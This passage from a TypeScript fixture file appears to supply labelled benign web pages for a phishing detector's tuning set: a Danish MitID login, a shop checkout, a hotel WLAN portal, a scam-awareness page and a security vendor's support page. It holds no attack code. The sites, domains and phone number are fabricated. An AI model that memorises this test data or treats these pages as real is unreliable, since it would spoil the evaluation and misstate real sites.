    body: `<h1>Log ind med MitID</h1><p>Borgere logger ind med MitID. Læs også din Digital Post i e-Boks.</p>${form("/login", text("CPR-nummer", "cpr"), password("Adgangskode"), button("Log ind"))}<a href="/hjaelp">Hjælp</a>`,
  }),
  benign("shop", "https://www.cykelhjornet-sample.dk/checkout", {
    title: "Betaling - Cykelhjørnet",
    lang: "da",
    body: `<h1>Betaling</h1><img src="/i/mobilepay.svg" alt="MobilePay"><img src="/i/klarna.svg" alt="Klarna"><p>Levering med PostNord, GLS eller DAO.</p>${form("/pay", card(), button("Betal"))}<a href="/kurv">Kurv</a>`,
  }),
  benign("hotel's WLAN", "http://login.wlan-sample.com/", {
    title: "Guest WLAN",
    body: `<h1>Welcome</h1>${form("http://10.5.50.1/login", text("Room", "username"), password(), button("Connect"))}`,
  }),
  benign("report on false support", "https://www.consumer-sample.org/scams", {
    title: "Tech support scams",
    body: `<h1>Tech support scams</h1>${paragraphs("A page says that your computer has been blocked, and to call Microsoft support. Close it: Microsoft never shows a number.")}<a href="/more">More</a>`,
  }),
  benign("maker of security software", "https://www.shieldware-sample.com/support", {
    title: "Shieldware Support",
    body: `${menu(...MANY)}<h1>Virus alert? We help</h1>${paragraphs("Telephone: +44 20 7946 0123, Monday to Friday.")}`,
  }),
];

export const TUNED: readonly LabelledPage[] = [...PHISHING, ...BENIGN];
